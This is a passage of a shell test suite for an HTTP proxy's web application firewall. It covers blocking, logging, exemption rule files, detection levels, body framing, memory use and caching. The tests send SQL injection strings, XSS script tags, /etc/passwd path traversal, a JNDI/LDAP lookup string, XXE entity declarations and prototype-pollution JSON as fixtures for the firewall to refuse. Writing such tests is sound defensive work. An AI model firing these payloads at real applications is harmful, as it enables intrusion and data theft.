test_waf_says_in_the_log_what_it_saw_and_with_log_refuses_nothing() {
	for how in block:403 log:200; do
		rm -f log
		start_logged --log-format human -r /=200:x --waf "${how%:*}"
		is "$(code -g "$url/?$sqli")" "${how#*:}"
		is "$(code -d "id=x' or 1=1" "$url/form")" "${how#*:}"
		answers 200 "$url/?q=it's+one+or+the+other"
		logged 3
		like "$(sed -n 1p log)" " ${how#*:} GET .* rule=\"sqli [a-z-]+ query:q a' aa 0=0\" why=attack$"
		like "$(sed -n 2p log)" " ${how#*:} POST .* rule=\"sqli [a-z-]+ form:id a' aa 0=0\" why=attack$"
		hasnt "$(sed -n 3p log)" why=
		hasnt "$(sed -n 3p log)" rule=
	done
}

test_a_higher_level_of_waf_refuses_more() {
	for level in '' ,level=1 ,level=2 ,level=3; do
		start -r /=200:x --waf "block$level"
		got=$level
		for q in plain '<style>' '<svg+x>' "x'+or+1=1"; do got="$got $(code -g "$url/?q=$q")"; done
		echo "$got"
	done >levels
	is "$(cat levels)" ' 200 200 200 403
,level=1 200 200 200 403
,level=2 200 200 403 403
,level=3 200 403 403 403'
}

test_the_file_of_waf_exempts_requests_parameters_and_detectors() {
	cat >own <<-'END'
	exempt path:/raw
	exempt /posts,param:body*,detector:xss
	exempt header:X-Trust=yes,from:127.0.0.0/8
	exempt from:192.0.2.0/24
	exempt detector:sqli,method:PUT
	exempt /two,param:Q,detector:xss,detector:sqli
	exempt /nothing,agent:good*
	END
	start -r /=200:x --waf block,@own
	while read -r want what; do
		eval "set -- $what"
		is "$(code -g "$@")" "$want" "status of $what"
	done <<-'END'
	403 "$url/?$sqli"
	200 "$url/raw?$sqli"
	200 "$url/raw/below" -d "$sqli"
	403 "$url/rawer?$sqli"
	200 "$url/posts?body=<script>alert(1)</script>"
	200 "$url/posts" -d "BODY2=<script>alert(1)</script>"
	403 "$url/posts?body=x'+or+1=1"
	403 "$url/posts?title=<script>alert(1)</script>"
	403 "$url/posts?body=x&$script"
	403 "$url/other?body=<script>alert(1)</script>"
	200 "$url/?$sqli" -H "X-Trust: yes"
	403 "$url/?$sqli" -H "X-Trust: no"
	200 "$url/" -X PUT -d "$sqli"
	403 "$url/" -X PUT -d "$script"
	200 "$url/two?$sqli"
	200 "$url/two?$script"
	403 "$url/two?q=\${jndi:ldap://h/}"
	200 "$url/nothing?$sqli" -A "good browser"
	403 "$url/nothing?$sqli" -A "a good browser"
	END
	start -r /=200:x --waf block,@own --trust private
	is "$(code -g -H 'X-Forwarded-For: 192.0.2.9' "$url/?$sqli")" 200 'status for a client that is exempt'
	is "$(code -g -H 'X-Forwarded-For: 198.51.100.9' "$url/?$sqli")" 403 'status for another client'
}

test_the_file_of_waf_blocks_by_parameter_value_agent_and_rule() {
	cat >own <<-'END'
	block param:debug*
	block value:forbidden Word
	block value:a?c*
	block agent:BadBot*
	block DELETE,path:/keep
	block /login,param:next,value:evil.example
	exempt /free
	block /free/not
	END
	start_logged --log-format '%s %{why}x %{rule}x' -r /=200:x --waf block,@own
	i=0
	while read -r want what; do
		eval "set -- $what"
		is "$(code -g "$@")" "$want" "status of $what"
		logged $((i += 1))
		[ "$want" = 200 ] || like "$(tail -n 1 log)" '^403 attack own line [0-9]+ ' "the log of $what"
	done <<-'END'
	403 "$url/?debug=1"
	403 "$url/?a=b&DeBuG2=1"
	403 "$url/" -d debug=1
	403 "$url/" -b debug=1
	403 "$url/" -F debug=1
	403 "$url/" -H "Content-Type: application/json" -d "{\"debug\":1}"
	403 "$url/" -H "Debug-It: 1"
	200 "$url/?nodebug=debug"
	403 "$url/?q=a+Forbidden%20word+b"
	200 "$url/?q=forbiddenword"
	403 "$url/?q=ABCdef"
	200 "$url/?q=xabcdef"
	403 "$url/" -A BadBot/1.0
	200 "$url/" -A "no BadBot"
	403 "$url/keep/this" -X DELETE
	200 "$url/keep/this"
	403 "$url/login?next=https://EVIL.example/"
	200 "$url/login?then=evil.example"
	200 "$url/?next=evil.example"
	200 "$url/free?$sqli"
	403 "$url/free/not"
	END
}

test_hup_reads_the_file_of_waf_again_and_keeps_the_old_one_if_it_is_bad() {
	echo 'block param:old' >own
	start -r /=200 --waf block,@own
	answers 403 "$url/?old=1"
	echo 'block param:new' >own
	kill -HUP "$pid"
	wait_for now_answers 403 "$url/?new=1" || fail 'the new line is not in force'
	answers 200 "$url/?old=1"
	may_say '^proxy: --waf @own: line 1: param:c: ' '^proxy: --waf @own: No such file'
	echo 'block param:b,param:c' >own
	kill -HUP "$pid"
	wait_for grep -q 'line 1: param:c' "err.$n" || fail 'the bad line is not reported'
	answers 403 "$url/?new=1"
	rm own
	kill -HUP "$pid"
	wait_for grep -q 'No such file' "err.$n" || fail 'the missing file is not reported'
	answers 403 "$url/?new=1"
	is "$(code -g "$url/?$sqli")" 403
}

test_what_waf_found_is_counted_by_detector() {
	for how in block log; do
		start_admin -r /=200:x --waf "$how"
		for q in "$sqli" "$sqli" "$script" a=b 'q=../../../etc/passwd'; do code -g "$url/?$q" >status; done
		code -d "$sqli" "$url" >status
		for want in sqli:3 xss:1 traversal:1 shell:0 own:0; do
			is "$(metric "proxy_waf_total{detector=\"${want%:*}\"}")" "${want#*:}" "$how: the number of ${want%:*}"
		done
	done
	start_admin -r /=200:x
	hasnt "$(get "$admin/metrics")" proxy_waf
}

test_report_only_does_not_lift_waf_block() {
	start_logged --log-format '%s %{why}x' -r /=200:x --waf block --report-only -d /denied
	is "$(code -g "$url/denied")" 200
	is "$(code -g "$url/?$sqli")" 403
	is "$(code -g "$url/denied?$sqli")" 403
	is "$(code -d "$sqli" "$url/")" 403
	logged 4
	is "$(tr '\n' ',' <log)" '200 denied,403 attack,403 attack,403 attack,'
}

test_no_letter_and_no_digit_of_an_attack_is_in_the_log() {
	need jq
	secret="Zebra77' or 8842=8842 --"
	for form in human json '%{rule}x'; do
		rm -f log
		start_logged --log-format "$form" -r /=200:x --waf block
		is "$(code -d "id=$secret" "$url/")" 403
		is "$(code -F "id=$secret" "$url/")" 403
		is "$(code -F "id=@$self;filename=$secret" "$url/")" 403
		is "$(code -H 'Content-Type: application/json' -d "{\"id\":\"$secret\"}" "$url/")" 403
		is "$(code -H 'Content-Type: application/json' -d "{\"id\":\"\\u005a$secret\"}" "$url/")" 403
		is "$(code -H 'Content-Type: text/xml' -d "<id>$secret</id>" "$url/")" 403
		is "$(code -H 'Content-Type: text/plain' -d "$secret" "$url/")" 403
		is "$(code -b "id=$secret" "$url/")" 403
		is "$(code -H "X-Id: $secret" "$url/")" 403
		logged 9
		is "$(grep -c "a*00' aa 0000=0000 --" log)" 9 "lines that show it masked in $(cat log)"
		grep -Ei 'zebra|8842| or ' log && fail 'it is shown'
	done
	:
}

test_waf_judges_after_the_rules_the_login_the_rate_and_the_size() {
	start_logged --log-format '%s %{why}x' -r /=200:x --waf block -d /denied -u bob:secret -a POST -a GET --max body=10
	is "$(code -g "$url/denied?$sqli")" 403
	is "$(code -g "$url/?$sqli")" 401
	is "$(code -g -u bob:secret -X PUT "$url/?$sqli")" 403
	is "$(code -g -u bob:secret -d 12345678901 "$url/?$sqli")" 413
	is "$(code -g -u bob:secret "$url/?$sqli")" 403
	is "$(code -g -u bob:secret "$url/?q=x")" 200
	logged 6
	is "$(cut -d' ' -f1,2 log | tr '\n' ',')" '403 denied,401 login,403 denied,413 body-large,403 attack,200 -,'
	start -r /=200:x --waf block --rate 2/h
	is "$(code -g "$url/?$sqli")" 403
	is "$(code -g "$url/?$sqli")" 403
	is "$(code -g "$url/?$sqli")" 429
}

test_waf_is_about_what_passes_in_forward_mode_too() {
	start -r /=echo
	inner=$port
	start --waf block
	is "$(code -g -x "$url" "http://127.0.0.1:$inner/?q=x")" 200
	is "$(code -g -x "$url" "http://127.0.0.1:$inner/?$sqli")" 403
	is "$(code -d "$sqli" -x "$url" "http://127.0.0.1:$inner/")" 403
	is "$(code -g --socks5 "127.0.0.1:$port" "http://127.0.0.1:$inner/?q=x")" 200
}

test_a_path_that_can_be_read_in_two_ways_is_refused_with_waf_block_in_forward_mode() {
	origin head 'send:HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n' again
	for how in 'block 403' 'block,level=3 403' 'block --report-only -d /x 403' 'log 200'; do
		start --waf ${how% *}
		is "$(code --path-as-is -x "$url" "http://127.0.0.1:$origin/a/%2e%2e/b")" "${how##* }" "$how: status"
	done
}

test_waf_leaves_connect_alone_and_looks_at_what_is_read_inside() {
	start -r /=200:x
	inner=$port
	start --waf block
	is "$(connect_code -g -x "$url" --proxy-header "X-Id: x' or 1=1" "http://127.0.0.1:$inner/?$sqli")" 200 'status of an odd CONNECT'
	is "$(cat body)" x
	site -r /=200:x
	start_mitm --waf block --ca site.pem
	is "$(code_inside "https://localhost:$secure/?q=x")" 200
	is "$(code_inside -g --proxy-header "X-Id: x' or 1=1" "https://localhost:$secure/?q=x")" 200 'status in a tunnel asked for by an odd CONNECT'
	is "$(code_inside -g "https://localhost:$secure/?$sqli")" 403
	is "$(code_inside -d "$script" "https://localhost:$secure/")" 403
	is "$(code_inside "https://localhost:$secure/?q=y" -d a=b)" 200
}

test_with_waf_only_websocket_is_upgraded_to() {
	start -r /=echo
	inner=$port
	for how in block log; do
		start -r ":$inner" --waf "$how"
		for to in custom/1 TLS/1.0 'websocket, custom' spdy; do
			is "$(code -H 'Connection: Upgrade' -H "Upgrade: $to" "$url")" 200
			is "$(field Upgrade)" '' "Upgrade for $to"
		done
	done
	start -r ":$inner"
	is "$(code -H 'Connection: Upgrade' -H 'Upgrade: custom/1' "$url")$(field Upgrade)" 200custom/1 'without --waf it'
}

test_a_websocket_passes_with_waf_and_its_request_is_looked_at() {
	origin head 'send:HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\nhello' mirror
	start -r ":$origin" --waf block,level=3
	ws='Host: h\r\nUser-Agent: a\r\nConnection: Upgrade\r\nUpgrade: WebSocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n'
	talk "$port" "send:GET /ws HTTP/1.1\r\n${ws}early" 'read:HTTP/1.1 101 ' 'read:\r\n\r\nhello' read:early \
		"send:\x81\x0dx' or 1=1 -- y" "read:\x81\x0dx' or 1=1 -- y" shut rest >got || fail "$(cat got)"
	like "$(talk "$port" "send:GET /ws?$sqli HTTP/1.1\r\n$ws" 'read:\r\n\r\n')" '^HTTP/1\.1 403 '
}

test_dry_run_says_what_waf_would_do() {
	echo 'exempt /x' >own
	for how in 'block:waf block, level 1' 'log,level=3:waf log, level 3' 'block,level=2,@own:waf block, level 2, @own'; do
		try --dry-run -l 0 -r /=200 --waf "${how%%:*}"
		is "$status" 0
		is "$(grep ^waf tried.out)" "${how#*:}"
	done
	try --dry-run -l 0 -r /=200
	hasnt "$out" waf
}

digests() {  # an origin at $origin that answers how the content of a request was framed, its octets and its digest
	need python3 sha256sum
	cat >digests.py <<-'END'
	import hashlib, http.server
	class Handler(http.server.BaseHTTPRequestHandler):
	    protocol_version = 'HTTP/1.1'
	    def do_POST(self):
	        length, content = self.headers['Content-Length'], b''
	        if length: content = self.rfile.read(int(length))
	        else:
	            while n := int(self.rfile.readline(), 16): content += self.rfile.read(n); self.rfile.readline()
	            self.rfile.readline()
	        said = '%s %d %s\n' % ('length' if length else 'chunked', len(content), hashlib.sha256(content).hexdigest())
	        self.send_response(200); self.send_header('Content-Length', str(len(said))); self.end_headers()
	        self.wfile.write(said.encode())
	    def log_message(self, *_): pass
	s = http.server.ThreadingHTTPServer(('127.0.0.1', 0), Handler); print(s.server_port, flush=True)
	s.serve_forever()
	END
	m=$((m + 1))
	: >"said.$m"
	python3 digests.py >"said.$m" 2>"complaint.$m" </dev/null &
	helpers="$helpers $!"
	wait_for lines_in 1 "said.$m" || fail "no origin: $(cat "complaint.$m")"
	origin=$(cat "said.$m")
}
digest() { echo "$1 $(wc -c <"$2" | tr -d ' ') $(sha256sum <"$2" | cut -d' ' -f1)"; }
octets() { od -An -v -tx1 "$1" | tr -d '\n'; }
post() { printf 'POST /%s HTTP/1.1\\r\\nHost: h\\r\\nUser-Agent: a\\r\\nContent-Type: application/x-www-form-urlencoded\\r\\n' "${1-}"; }

test_an_attack_in_content_is_found_whatever_its_type_its_framing_and_its_pieces() {
	start -w 2 -r /=200:x --waf block
	while IFS='|' read -r want type content; do
		printf -- "$content" >content
		dripped=$(octets content)
		head="POST / HTTP/1.1\\r\\nHost: h\\r\\nUser-Agent: a\\r\\nConnection: close\\r\\n${type:+Content-Type: $type\\r\\n}"
		what="of $type: $content"
		is "$(code -H "Content-Type:${type:+ $type}" --data-binary @content "$url")" "$want" "status $what; it"
		is "$(code -H "Content-Type:${type:+ $type}" -H 'Transfer-Encoding: chunked' --data-binary @content "$url")" "$want" "status, chunked, $what; it"
		talk "$port" "send:${head}Content-Length: $(wc -c <content | tr -d ' ')\\r\\n\\r\\n" "drip:0:$(echo "$dripped" | sed 's/ /\\x/g')" 'read:\r\n\r\n' >got ||
			fail "no answer $what"
		is "$(sed -n '1s/^HTTP.1.1 \([0-9]*\) .*/\1/p' got)" "$want" "status, octet by octet, $what; it"
		talk "$port" "send:${head}Transfer-Encoding: chunked\\r\\n\\r\\n" "drip:0:$(echo "$dripped" | sed 's/ \(..\)/1\\r\\n\\x\1\\r\\n/g')0\\r\\n\\r\\n" 'read:\r\n\r\n' >got ||
			fail "no answer, chunked, $what"
		is "$(sed -n '1s/^HTTP.1.1 \([0-9]*\) .*/\1/p' got)" "$want" "status, in chunks of one octet, $what; it"
	done <<-'END'
	200|application/x-www-form-urlencoded|a=b&id=it%%27s+one+or+two
	403|application/x-www-form-urlencoded|a=b&id=x%%27+or+1=1
	403|application/x-www-form-urlencoded; charset=utf-8|a=b&__proto__[x]=1
	403||x' or 1=1 --
	403|text/plain|x' or 1=1 --
	200|text/plain|it's one or two
	200|application/octet-stream|x' or 1=1 --
	403|multipart/form-data; boundary=cut|--cut\r\nContent-Disposition: form-data; name="id"\r\n\r\nx' or 1=1\r\n--cut--\r\n
	200|multipart/form-data; boundary=cut|--cut\r\nContent-Disposition: form-data; name="id"\r\n\r\nx\r\n--cut--\r\n
	403|multipart/form-data; boundary="cut"|--cut\r\nContent-Disposition: form-data; name="f"; filename="../../../etc/passwd"\r\n\r\nx\r\n--cut--\r\n
	200|multipart/form-data; boundary=cut|--cut\r\nContent-Disposition: form-data; name="f"; filename="a"\r\n\r\nx' or 1=1\r\n--cut--\r\n
	403|multipart/form-data; boundary=cut|--cut\r\nContent-Disposition: form-data; name="id"\r\n\r\nx\r\n--cut\r\n
	403|application/json|{"a":"\\u0027 or 1=1 --"}
	403|application/json|{"a":"\\" or \\"1\\"=\\"1"}
	403|application/json|{"a":{"b":[1,{"__proto__":{"c":1}}]}}
	403|application/vnd.api+json|[["x","<script>alert(1)</script>"]]
	200|application/json|{"a":{"b":["it's one or two",{"c":1}]}}
	403|application/xml|<a><b>x' or 1=1 --</b></a>
	403|text/xml|<a b="x' or 1=1 --"/>
	403|application/soap+xml|<a><![CDATA[x' or 1=1 --]]></a>
	403|application/xml|\376\377\0<\0a\0>\0x\0\47\0 \0o\0r\0 \0001\0=\0001\0 \0-\0-\0<\0/\0a\0>
	403|application/xml|<\0!\0D\0O\0C\0T\0Y\0P\0E\0 \0a\0 \0[\0<\0!\0E\0N\0T\0I\0T\0Y\0 \0x\0 \0S\0Y\0S\0T\0E\0M\0 \0"\0b\0"\0>\0]\0>\0<\0a\0/\0>\0
	200|application/xml|<a b="it's">one or two</a>
	END
}

test_content_arrives_as_it_was_sent_however_long_with_waf() {
	digests
	seq 1 600000 >all
	for how in log,level=3 block; do
		start -r ":$origin" --waf "$how"
		for size in 0 1 65535 65536 65537 131071 131072 131073 196607 196608 196609 262144 3000000; do
			head -c $size all >content
			for type in text/plain application/octet-stream; do
				is "$(get -H "Content-Type: $type" -H Expect: --data-binary @content "$url")" "$(digest length content)"
				is "$(get -H "Content-Type: $type" -H 'Transfer-Encoding: chunked' -H Expect: --data-binary @content "$url")" "$(digest chunked content)"
			done
		done
	done
}

test_an_upload_passes_in_constant_memory_with_waf() {
	need_proc
	origin head sink:104857600 'send:HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n' rest
	start -r ":$origin" --waf block
	before=$(memory "$pid")
	talk "$port" "send:$(post)Content-Length: 104857600\\r\\n\\r\\n" 'times:1638400:a=bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb&' 'read:HTTP/1.1 200 OK' >got || fail "$(cat got)"
	grew_less_than 4096
}

test_an_upload_is_not_taken_in_faster_than_it_is_read_with_waf() {
	need_proc
	origin head wait:go sink:400000000 'send:HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n' rest
	start -r ":$origin" --waf block
	before=$(memory "$pid")
	talk "$port" 'send:POST / HTTP/1.1\r\nHost: h\r\nContent-Length: 400000000\r\n\r\n' stuff:400000000 >stuffed
	like "$(cat stuffed)" '^stuffed [0-9]{1,8}$' 'what the client could send'
	grew_less_than 4096
}

test_who_waits_for_100_gets_it_with_waf_unless_the_head_is_an_attack() {
	start -r /=echo
	inner=$port
	for to in echo 200:x ":$inner"; do
		start -r "$to" --waf block
		for content in 'a=b:200' "id=x'+or+1=1:403"; do
			length=$((${#content} - 4))
			talk "$port" "send:$(post)Expect: 100-continue\\r\\nConnection: close\\r\\nContent-Length: $length\\r\\n\\r\\n" \
				'read:HTTP/1.1 100 Continue\r\n\r\n' "send:${content%:*}" rest >got || fail "no 100: $(cat got)"
			is "$(grep -c '^HTTP' got)" 2 "answers $(cat got)"
			like "$(grep '^HTTP' got | tail -n 1)" "^HTTP/1.1 ${content##*:} "
		done
		talk "$port" "send:$(post "?$sqli")Expect: 100-continue\\r\\nContent-Length: 3\\r\\n\\r\\n" 'read:\r\n\r\n' >got
		like "$(cat got)" '^HTTP/1.1 403 '
	done
	digests
	start -r ":$origin" --waf block
	seq 1 100000 >content
	is "$(get -H 'Expect: 100-continue' --data-binary @content "$url")" "$(digest length content)"
}

test_content_that_stalls_before_waf_has_seen_it_is_408() {
	start -r /=200:x
	start_logged -r ":$port" --waf block -t idle=300ms --log-format '%s %{why}x'
	for framing in 'Content-Length: 10\r\n\r\na=b' 'Transfer-Encoding: chunked\r\n\r\n3\r\na=b\r\n' 'Content-Length: 10\r\n\r\n'; do
		like "$(talk "$port" "send:$(post)$framing" rest)" '^HTTP/1.1 408 '
	done
	logged 3
	is "$(sort -u log | wc -l | tr -d ' ')" 1 'different lines'
	like "$(cat log)" '^408 '
}

test_a_client_that_leaves_before_waf_has_seen_its_content_is_noticed() {
	need_proc
	origin head 'send:HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n' again
	start_logged -r ":$origin" --waf block --log-format '%{why}x'
	before=$(descriptors "$pid")
	for end in reset shut; do
		talk "$port" "send:$(post)Content-Length: 300000\\r\\n\\r\\n" pour:100000 $end
		talk "$port" "send:$(post)Transfer-Encoding: chunked\\r\\n\\r\\nfff\\r\\na=b" $end
	done
	logged 4
	is "$(sort log | tr '\n' ' ')" 'body-cut body-cut client-gone client-gone '
	as_before() { [ "$(descriptors "$pid")" -le "$before" ]; }
	wait_for as_before || fail "descriptors: $before, then $(descriptors "$pid")"
	is "$(cat "got$m".* 2>/dev/null)" '' 'what the server got'
}

test_after_a_request_that_waf_refused_for_its_content_the_next_is_read_right() {
	start_logged -r /=200:x --waf block --log-format '%s %r'
	bad="id=x'+or+1=1"
	next='GET /next HTTP/1.1\r\nHost: h\r\nUser-Agent: a\r\nConnection: close\r\n\r\n'
	talk "$port" "send:$(post first)Content-Length: ${#bad}\\r\\n\\r\\n$bad$next" rest >got
	talk "$port" "send:$(post first)Transfer-Encoding: chunked\\r\\n\\r\\nc\\r\\n$bad\\r\\n0\\r\\n\\r\\n$next" rest >>got
	logged 4
	is "$(tr '\n' ',' <log)" '403 POST /first HTTP/1.1,200 GET /next HTTP/1.1,403 POST /first HTTP/1.1,200 GET /next HTTP/1.1,'
	is "$(grep -Eo 'HTTP/1.1 (403|200)' got | tr '\n' ' ')" 'HTTP/1.1 403 HTTP/1.1 200 HTTP/1.1 403 HTTP/1.1 200 '
	rm -f log
	start_logged -r /=200:x --waf block --log-format '%s %r'
	hidden='GET /hidden HTTP/1.1\r\nHost: h\r\n\r\n'
	for framing in 'Content-Length: 396012\r\n\r\n' 'Transfer-Encoding: chunked\r\n\r\n60aec\r\n'; do
		talk "$port" "send:$(post long)$framing$bad" "times:12000:$hidden" "send:\\r\\n0\\r\\n\\r\\n$next" rest >got 2>/dev/null
	done
	logged 2
	hasnt "$(cat log)" hidden 'the log'
	is "$(grep -c '^403 POST /long' log)" 2 "refusals in $(sort log | uniq -c)"
}

test_a_request_behind_content_that_waf_looks_at_has_its_turn() {
	digests
	start -r "/up=:$origin" -r /=200:own -w 2 --waf block
	one="$(post up/1)Content-Length: 3\\r\\n\\r\\na=b"
	two="$(post 2)Transfer-Encoding: chunked\\r\\n\\r\\n3\\r\\na=c\\r\\n0\\r\\n\\r\\n"
	three="$(post up/3)Transfer-Encoding: chunked\\r\\n\\r\\n3\\r\\na=d\\r\\n0\\r\\n\\r\\n"
	last='GET / HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n'
	for v in a=b a=d; do printf $v >$v; done
	for verb in send: drip:0:; do
		talk "$port" "$verb$one$two$three$last" rest >got
		is "$(grep -aEo '(length|chunked) 3 [0-9a-f]+|own' got | tr '\n' ' ')" "$(digest length a=b) own $(digest chunked a=d) own " "answers by $verb"
	done
}

test_content_that_waf_looks_at_is_recorded_and_replayed() {
	digests
	start -r ":$origin" -C store,mode=record --waf block
	seq 1 60000 >numbers
	for size in 10 100000 131072 131073 300000; do
		head -c $size numbers >c$size
		is "$(fetch -H Expect: --data-binary @c$size "$url/a")" "$(digest length c$size)"
		is "$(fetch -H Expect: -H 'Transfer-Encoding: chunked' --data-binary @c$size "$url/b")" "$(digest chunked c$size)"
	done
	is "$(ask -d "$sqli" "$url/a")" 403
	stop
	start -r ":$origin" -C store,mode=replay --waf block
	for size in 10 100000 131072 131073 300000; do
		is "$(fetch -H Expect: --data-binary @c$size "$url/a")" "$(digest length c$size)"
		is "$(fetch -H Expect: -H 'Transfer-Encoding: chunked' --data-binary @c$size "$url/b")" "$(digest chunked c$size)"
	done
	is "$(ask -d other "$url/a")" 504
	is "$(ask -d "$sqli" "$url/a")" 403
}

test_a_post_that_waf_let_pass_drops_what_is_stored_and_one_refused_does_not() {
	origin head "$(answer max-age=60 one)" head read:a=b "$(answer no-store posted)" head "$(answer max-age=60 two)"
	start -r ":$origin" -C store --waf block
	is "$(fetch "$url/a")" one
	is "$(fetch "$url/a")" one
	is "$(ask -d "$sqli" "$url/a")" 403
	is "$(fetch "$url/a")" one
	is "$(fetch -d a=b "$url/a")" posted
	is "$(fetch "$url/a")" two
	is "$(asked)" 3 'questions to the origin'
}

test_echo_and_canned_answers_get_what_waf_looked_at() {
	start -r /echo=echo -r /=200:canned --waf block
	for framing in X-Plain:x 'Transfer-Encoding: chunked'; do
		is "$(code -H "$framing" -d 'a=b&c=d' "$url/echo")" 200
		is "$(member content)" 'a=b&c=d'
		is "$(get -H "$framing" -d 'a=b&c=d' "$url/other")" canned
		seq 1 50000 >content
		is "$(code -H "$framing" -H Expect: --data-binary @content "$url/echo")" 200
		is "$(member content | cksum)" "$({ cat content; echo; } | cksum)"
		is "$(get -H "$framing" -H Expect: --data-binary @content "$url/other")" canned
		is "$(code -H "$framing" -d "$sqli" "$url/echo")" 403
		is "$(code -H "$framing" -d "$sqli" "$url/other")" 403
	done
}

test_content_that_waf_looked_at_goes_to_another_member_if_one_is_dead() {
	digests
	seq 1 60000 >numbers
	for size in 10 131072 300000; do
		head -c $size numbers >content
		start -b first -r localhost:1 -r ":$origin" --waf block
		is "$(get -H Expect: --data-binary @content "$url")" "$(digest length content)"
		start -b first -r localhost:1 -r ":$origin" --waf block
		is "$(get -H Expect: -H 'Transfer-Encoding: chunked' --data-binary @content "$url")" "$(digest chunked content)"
	done
}

test_what_follows_128_KiB_of_content_is_no_more_of_it() {
	origin head take:131072 wait:go 'send:HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok' rest
	start -r ":$origin" --waf block -t idle=3s
	talk "$port" "send:$(post)Content-Length: 131072\\r\\n\\r\\n" 'times:2048:a=bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb&' \
		"send:GET /next?$sqli HTTP/1.1\\r\\nHost: h\\r\\nUser-Agent: a\\r\\nConnection: close\\r\\n\\r\\n" nap:50 touch:go 'read:HTTP/1.1 200' 'read:HTTP/1.1 403' rest >got ||
		fail "the next is not answered: $(cat got)"
	grep -qa /next "got$m.1" && fail 'the server got the next request as content'
	rm go
	start -r /=200:x --waf block -t idle=3s
	for size in 131072 131073 140000; do
		head -c $size /dev/zero | tr '\0' x >content
		for i in 1 2 3 4; do is "$(code -H Expect: --data-binary @content "$url")" 200 "status after $size octets"; done
	done
}

test_the_first_128_KiB_of_content_are_looked_at_to_the_last_octet() {
	start -r /=200:x --waf block
	for end in 131071 131072 131073 140000; do
		{ printf a=; head -c $((end - 12)) /dev/zero | tr '\0' x; printf '&b=<script'; } >content
		is "$(wc -c <content | tr -d ' ')" "$((end))"
		want=200
		[ $end -gt 131072 ] || want=403
		for more in 0 100000; do
			{ cat content; head -c $more /dev/zero | tr '\0' '&'; } >whole
			is "$(code -H Expect: --data-binary @whole "$url")" $want "status where $end octets are before $more"
			is "$(code -H Expect: -H 'Transfer-Encoding: chunked' --data-binary @whole "$url")" $want "status, chunked, where $end octets are before $more"
		done
	done
	start -r /=200:x --waf block --max body=128k
	is "$(code -H Expect: --data-binary @content "$url")" 413
	is "$(code -H Expect: -H 'Transfer-Encoding: chunked' --data-binary @content "$url")" 413
}

test_a_mirror_gets_what_waf_let_pass_and_nothing_that_it_refused() {
	digests
	start_as -l 0 -o copies --log-format '%r %I' -r ":$origin"
	inner=$port
	start -r ":$origin" --waf block --mirror ":$inner"
	is "$(code -g "$url/refused?$sqli")" 403
	is "$(code -d "$sqli" "$url/refused")" 403
	is "$(code -H 'Transfer-Encoding: chunked' -d "$sqli" "$url/refused")" 403
	seq 1 60000 >numbers
	for size in 10 131072 200000; do
		head -c $size numbers >content
		is "$(get -H Expect: --data-binary @content "$url/$size")" "$(digest length content)"
		is "$(get -H Expect: -H 'Transfer-Encoding: chunked' --data-binary @content "$url/chunked/$size")" "$(digest chunked content)"
	done
	wait_for lines_in 6 copies || fail "$(cat copies)"
	hasnt "$(cat copies)" refused 'what the mirror got'
	while read -r method path version size; do
		[ "$size" -ge "${path##*/}" ] || fail "of $path came $size octets"
	done <copies
}

test_a_level_of_waf_beyond_3_is_refused() {
	for level in 4 5 9; do
		refuses "^proxy: --waf block,level=$level: .*level=1, 2 or 3" -l 0 -r /=200 --waf "block,level=$level"
	done
}

test_an_empty_term_in_the_file_of_waf_is_refused() {
	for line in 'exempt ,' 'exempt /x,' 'block param:a,,/x'; do
		echo "$line" >own
		refuses '^proxy: --waf @own: line 1: .*empty' -l 0 -r /=200 --waf block,@own
	done
}

test_a_parameter_of_the_file_of_waf_is_meant_however_its_name_is_written() {
	echo 'block param:debug' >own
	start -r /=200:x --waf block,@own
	answers 403 "$url/?debug=1"
	answers 403 "$url/?d%65bug=1"
	is "$(code -d 'a=b&d%65bug=1' "$url")" 403
	is "$(code -H 'Content-Type: application/json' -d '{"d\u0065bug":"1"}' "$url")" 403
}

test_a_comma_in_the_file_of_waf_is_written_with_a_backslash() {
	printf '%s\n' 'block value:one\,two' 'block param:a\,b' >own
	start -r /=200:x --waf block,@own
	answers 403 "$url/?q=x+one,two+x"
	answers 403 "$url/?a,b=1"
	answers 200 "$url/?q=one+two"
}

test_the_file_of_waf_exempts_content_as_a_whole_from_a_detector() {
	printf 'exempt detector:xxe\nexempt detector:protocol\n' >own
	start -r /=200:x --waf block,@own
	is "$(code -g "$url/?q=<!DOCTYPE+a+[<!ENTITY+x+SYSTEM+'b'>]>")" 200
	is "$(code -H 'Content-Type: text/xml' -d '<!DOCTYPE a [<!ENTITY x SYSTEM "b">]><a/>' "$url")" 200
	is "$(code -H 'Content-Type: multipart/form-data; boundary=x' -d '--x' "$url")" 200
}

test_content_in_a_coding_passes_waf() {
	need gzip
	seq 1 2000 >plain
	start -r /=200:x --waf block
	for coding in gzip GZIP br 'identity, gzip'; do
		for type in application/x-www-form-urlencoded application/json application/xml 'multipart/form-data; boundary=x' text/plain; do
			is "$(gzip -nc plain | code -H "Content-Encoding: $coding" -H "Content-Type: $type" --data-binary @- "$url")" 200 "status for $coding of $type"
		done
	done
	is "$(code -H 'Content-Encoding: identity' -H 'Content-Type: text/plain' -d "x' or 1=1 --" "$url")" 403 'status for identity'
}

test_no_letter_and_no_digit_of_content_is_in_the_log_as_a_name() {
	start_logged --log-format '%{rule}x' -r /=200:x --waf block
	is "$(code -d '{"password":"Zebra77"} or 1=1 union select a from b' "$url")" 403
	is "$(code -d "Zebra77' or 8842=8842 --" "$url")" 403
	is "$(code -H 'Content-Type: application/json' -d "{\"Zebra77' or 8842=8842 --\":1}" "$url")" 403
	logged 3
	grep -E 'Zebra|8842' log && fail 'it is shown'
	:
}

# ---- the cache: -C ----

# The rules are a table, cache_cases, at the end of this file; cachecase plays the client and the origin.
cached() {  # run the cases of a group: cached reverse|forward GROUP keep|each OPTION...
	need python3
	mode=$1 group=$2 keep=$3
	shift 3
	m=$((m + 1))
	: >"said.$m"
	mkfifo go
